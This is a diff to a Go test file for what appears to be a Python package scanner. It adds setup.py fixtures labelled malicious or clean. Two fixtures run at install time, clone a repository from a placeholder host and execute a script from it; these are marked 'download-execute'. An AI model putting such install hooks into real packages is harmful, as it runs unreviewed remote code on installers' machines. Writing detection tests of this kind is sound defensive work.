@@ -15,6 +15,10 @@ func TestStagesAndProbes(t *testing.T) {
 			"import os, subprocess, git\nfrom setuptools import setup\n" +
 			"def fetch():\n    git.Repo.clone_from('https://example.invalid/u/updater.git', 'C:/Users/repo')\n    os.chdir('C:/Users/repo')\n    subprocess.run(['python', 'bypass.py'])\n" +
 			"setup(name='p')\nif __name__ == '__main__':\n    fetch()\n"}, "download-execute", Malicious},
+		{"a repository cloned and its script run in one command at install", map[string]string{"setup.py": "" +
+			"import os\nfrom setuptools import setup\nos.system('git clone https://example.invalid/u/tool /tmp/t && python /tmp/t/run.py')\nsetup(name='p')\n"}, "download-execute", Malicious},
+		{"a dependency cloned and built in one command at install", map[string]string{"setup.py": "" +
+			"import os\nfrom setuptools import setup\nos.system('git clone https://example.invalid/u/dep build/dep && cd build/dep && python setup.py build_ext')\nsetup(name='p')\n"}, "", Clean},
 		{"a dependency cloned and installed at install", map[string]string{"setup.py": "" +
 			"import subprocess\nfrom setuptools import setup\n" +
 			"subprocess.check_call(['git', 'clone', 'https://example.invalid/u/dep.git', 'build/dep'])\nsubprocess.check_call(['python', 'setup.py', 'install'], cwd='build/dep')\nsetup(name='p')\n"}, "", Clean},
